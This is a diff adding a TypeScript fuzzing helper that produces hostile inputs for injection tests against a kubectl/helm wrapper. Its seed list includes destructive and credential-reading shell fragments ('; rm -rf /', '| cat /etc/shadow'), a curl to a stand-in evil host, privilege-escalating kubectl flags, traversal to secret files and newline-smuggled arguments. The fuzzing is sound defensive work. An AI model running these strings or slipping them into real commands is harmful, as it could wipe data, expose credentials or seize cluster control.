@@ -1,0 +1,52 @@
+// Hostile strings for injection fuzzing: flags, shell syntax, control characters, unicode tricks, traversal,
+// oversize values, and each of these glued onto otherwise valid values. Deterministic (seeded) so a failure
+// reproduces.
+
+const SEEDS = [
+  // flags and options that would change whom or where kubectl/helm talk to
+  '-', '--', '-n', '-A', '--all-namespaces', '--kubeconfig=/etc/kubernetes/admin.conf', '--server=https://evil.example.com',
+  '-s', 'https://evil.example.com', '--token=abc', '--as=system:admin', '--as-group=system:masters', '--context=prod',
+  '--insecure-skip-tls-verify', '-o=go-template={{.}}', '--output=jsonpath={..}', '--template={{.}}', '--raw=/api', '-f=/etc/passwd',
+  '--post-renderer=/bin/sh', '--repo=http://evil', '-l', '--force', '--grace-period=0', '--all', '--cascade=orphan',
+  // shell metacharacters and command substitution
+  '; rm -rf /', '$(id)', '`id`', '| cat /etc/shadow', '&& curl http://evil', '> /tmp/pwn', '< /etc/passwd', "'", '"', '\\',
+  '${PATH}', '$IFS', '*', '?', '[a-z]', '~', '#', '!', '%', '{{ .Values }}', '%s%n%x',
+  // whitespace and control characters
+  ' ', '\t', '\n', 'a\nb', 'web\n--as=admin', 'web\r\n', '\u0000', 'web\u0000--as=admin', '\u001b[31m', '\u007f', '\u2028', '\u00a0',
+  // unicode tricks: right-to-left override, zero width, homoglyphs, full width, combining marks
+  '\u202eweb', 'we\u200bb', 'кube-system', 'ｗｅｂ', 'web\u0301', '𝕨𝕖𝕓', 'İ', 'ß', '😀',
+  // path traversal and URLs
+  '../../etc/passwd', '/etc/shadow', 'file:///etc/passwd', '~/.kube/config', '..', '%2e%2e%2f', '.\\..\\', 'http://127.0.0.1:10250/pods',
+  'oci://evil.example.com/chart', 'https://evil.example.com/chart.tgz',
+  // selectors and names that are almost valid
+  'app=web,--as=x', 'app in (a,b) --as=x', 'metadata.name=x --as=y', 'web --as=admin', 'WEB', 'web-', '-web', 'web.', 'a'.repeat(64),
+  // JSON and YAML that try to smuggle
+  '{"spec":{"replicas":0}}', '[{"op":"remove","path":"/"}]', 'kind: ClusterRoleBinding', '---\nkind: Secret', 'null', '[]', '{}',
+];
+
+function prng(seed: number): () => number {
+  let s = seed >>> 0;
+  return () => {
+    s = (s + 0x6d2b79f5) >>> 0;
+    let t = Math.imul(s ^ (s >>> 15), 1 | s);
+    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
+    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
+  };
+}
+
+const VALID_STEMS = ['web', 'shop', 'app=web', 'status.phase=Running', 'pods', 'deployment', '1m', 'main'];
+
+/** `count` hostile values: every seed, then seeded combinations of stems and seeds. */
+export function hostileValues(count: number, seed = 1): string[] {
+  const random = prng(seed);
+  const pick = <T>(xs: T[]) => xs[Math.floor(random() * xs.length)];
+  const values = new Set<string>(SEEDS);
+  values.add('x'.repeat(20_000));
+  while (values.size < count) {
+    const shape = Math.floor(random() * 5);
+    const a = pick(SEEDS);
+    const stem = pick(VALID_STEMS);
+    values.add([`${stem}${a}`, `${a}${stem}`, `${stem} ${a}`, `${a}${pick(SEEDS)}`, `${stem},${a}`][shape]);
+  }
+  return [...values];
+}
